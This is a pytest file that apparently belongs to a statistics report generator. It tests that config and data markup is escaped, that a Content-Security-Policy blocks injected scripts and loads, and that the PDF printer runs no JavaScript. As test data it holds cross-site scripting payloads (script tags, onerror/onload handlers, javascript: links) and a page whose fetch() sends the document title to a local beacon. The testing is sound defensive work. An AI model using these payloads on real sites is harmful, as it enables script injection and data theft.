"""Nothing in a config or a data file runs in the report, and the PDF printer runs nothing.

Three layers, each tested on its own: every config/data string is escaped (the page is
loaded with its Content-Security-Policy removed, so escaping alone must hold); the policy
itself forbids scripts and network loads (a script injected after rendering does not run);
and the PDF is printed with JavaScript off and the network blocked (a local server sees
no request, and the PDF's text is the page's static text).
"""

from __future__ import annotations

import functools
import http.server
import re
import shutil
import tempfile
import threading
from pathlib import Path

import pytest
import report_cohort as rc

from ketastats.report import find_chromium, render_pdf
from ketastats.report.render import CHROMIUM_ARGS

pytestmark = pytest.mark.browser

#: label -> what a browser would do with it unescaped
LABELS = {
    "script": "<script>alert('label-script')</script>",
    "onerror": "<img src=x onerror=alert('label-onerror')>",
    "svg": "<svg onload=alert('label-svg')></svg>",
    "link": "<a href=\"javascript:alert('label-link')\">click me</a>",
    "eats_text": "x <baseline excluded>",
}
FORMULA_PAYLOAD = "Q('<img src=y onerror=alert(\"formula\")>')"
DATA_PAYLOAD = "<svg/onload=alert('data')>"


@functools.cache
def hostile_report() -> dict:
    models = {
        f"m_{key}": {**rc.MODELS["primary"], "label": label} for key, label in LABELS.items()
    }
    # a formula naming a column that holds markup: the model is skipped and its reason
    # (which quotes the formula) goes into the Methods text
    models["m_formula"] = {**rc.MODELS["primary"], "formula": f"madrs ~ session + {FORMULA_PAYLOAD}"}
    tmp = Path(tempfile.mkdtemp(prefix="ketastats-hostile-"))
    b = rc.build(tmp, n_patients=40, models=models)
    import pandas as pd

    sessions = pd.read_parquet(b["sessions"])
    sessions.loc[sessions["ill"] == 1, "illness_type"] = DATA_PAYLOAD
    sessions.to_parquet(b["sessions"], index=False)
    rep = rc.run_report(b, tmp / "reports" / "synth")
    rep["tmp"] = tmp
    return rep


def _browse(html: Path) -> dict:
    from playwright.sync_api import sync_playwright

    seen: dict[str, list] = {"dialogs": [], "console": [], "errors": [], "requests": []}
    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=find_chromium(), args=[a for a in CHROMIUM_ARGS if a != "--headless"]
        )
        try:
            page = browser.new_page()  # JavaScript on, as in a reader's browser
            page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
            page.on("console", lambda m: seen["console"].append((m.type, m.text)))
            page.on("pageerror", lambda e: seen["errors"].append(str(e)))
            page.on("request", lambda r: seen["requests"].append(r.url))
            page.goto(html.as_uri(), wait_until="load")
            page.wait_for_timeout(300)
            seen["text"] = page.inner_text("body")
        finally:
            browser.close()
    return seen


def test_config_and_data_markup_is_escaped_even_without_the_policy(tmp_path):
    rep = hostile_report()
    html = rep["html"]
    assert "Content-Security-Policy" in html
    stripped = re.sub(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "", html)
    assert "Content-Security-Policy" not in stripped
    page = tmp_path / "no_csp.html"
    page.write_text(stripped)
    seen = _browse(page)
    assert seen["dialogs"] == []
    assert seen["errors"] == []
    assert [m for m in seen["console"] if m[0] in ("error", "warning")] == []
    assert all(u.startswith(("file:", "data:")) for u in seen["requests"]), seen["requests"]
    # the markup shows literally, as text, where the label is printed
    for label in LABELS.values():
        assert label in seen["text"], label
    assert FORMULA_PAYLOAD in seen["text"]
    assert DATA_PAYLOAD in seen["text"]
    # and no tag made from them exists in the source
    for raw in ("<script>alert", "<img src=x", "<svg onload", "<svg/onload", "<a href=\"javascript", "<baseline"):
        assert raw not in html, raw


def test_the_policy_blocks_a_script_that_got_in(tmp_path, beacon):
    port, hits = beacon
    rep = hostile_report()
    injected = rep["html"].replace(
        "</h1>",
        "</h1><script>alert('inline')</script><img src=x onerror=\"alert('handler')\">"
        f"<img src=\"http://127.0.0.1:{port}/beacon.png\">",
        1,
    )
    page = tmp_path / "injected.html"
    page.write_text(injected)
    seen = _browse(page)
    assert seen["dialogs"] == []
    # Chromium reports each refused script or load on the console: that is the policy at work
    refused = [m[1] for m in seen["console"] if "Content Security Policy" in m[1]]
    assert any("script" in m for m in refused), seen["console"]
    assert any("img-src" in m for m in refused), seen["console"]
    assert hits == []  # the server beside it saw nothing


class _Beacon(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):  # noqa: N802 (http.server's name)
        type(self).hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def beacon():
    _Beacon.hits = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Beacon)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1], _Beacon.hits
    finally:
        server.shutdown()


def _hostile_page(tmp_path: Path, port: int) -> Path:
    page = tmp_path / "hostile.html"
    page.write_text(
        "<!DOCTYPE html><html><head><title>secret title</title></head><body>"
        "<h1 id=h>static text</h1>"
        f"<img src=\"http://127.0.0.1:{port}/img\">"
        f"<script>fetch('http://127.0.0.1:{port}/fetch?t=' + document.title);"
        "document.getElementById('h').textContent = 'SCRIPT REWROTE THIS';</script>"
        "</body></html>"
    )
    return page


def _pdf_text(pdf: Path) -> str:
    from pypdf import PdfReader

    return " ".join(p.extract_text() for p in PdfReader(str(pdf)).pages)


def test_pdf_printer_runs_no_script_and_makes_no_request(tmp_path, beacon):
    port, hits = beacon
    pdf = render_pdf(_hostile_page(tmp_path, port), tmp_path / "out.pdf")
    text = _pdf_text(pdf)
    assert "static text" in text
    assert "SCRIPT REWROTE" not in text
    assert hits == []


def test_pdf_printer_on_the_command_line_runs_no_script_and_makes_no_request(tmp_path, beacon, monkeypatch):
    import builtins

    real_import = builtins.__import__

    def no_playwright(name, *args, **kwargs):
        if name.startswith("playwright"):
            raise ImportError(name)
        return real_import(name, *args, **kwargs)

    port, hits = beacon
    page = _hostile_page(tmp_path, port)
    monkeypatch.setattr(builtins, "__import__", no_playwright)
    pdf = render_pdf(page, tmp_path / "out.pdf")
    monkeypatch.undo()
    text = _pdf_text(pdf)
    assert "static text" in text
    assert "SCRIPT REWROTE" not in text
    assert hits == []


def teardown_module():
    if hostile_report.cache_info().currsize:
        shutil.rmtree(hostile_report()["tmp"], ignore_errors=True)
